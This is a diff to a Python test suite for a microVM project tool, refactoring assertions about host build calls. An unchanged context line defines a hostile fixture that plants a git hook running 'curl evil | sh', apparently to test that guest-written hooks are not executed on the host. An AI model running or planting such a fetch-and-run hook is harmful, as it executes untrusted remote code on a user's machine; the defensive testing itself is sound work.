@@ -113,8 +113,8 @@ def test_render_of_an_unapproved_change_leaves_the_vms_flake_untouched(project):
              for p in _flake_dir(project).rglob("*") if p.is_file()}
     assert after == before
     project.mariner("validate", check=0)
-    assert [c for c in project.host_calls() if c[0] == "microvm"] == \
-        [["microvm", "-c", project.name, "-f", f"path:{_flake_dir(project)}"]]
+    builds = [c for c in project.host_calls() if project.is_build(c)]
+    assert len(builds) == 1 and project.is_build(builds[0], create=True)  # the first up's
 
 
 HOOK_FROM_THE_GUEST = ("mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil | sh\\n' "
@@ -194,5 +194,5 @@ def test_on_a_terminal_up_shows_the_change_and_asks(project):
 
     status, out = _on_a_terminal(project, "up", answer=b"y\n", until=b"continue? [y/N]")
     assert status == 0, out
-    assert any(call[:2] == ["microvm", "-c"] for call in project.host_calls())
+    assert any(project.is_build(call, create=True) for call in project.host_calls())
     project.up_json()                                # approved: no question any more
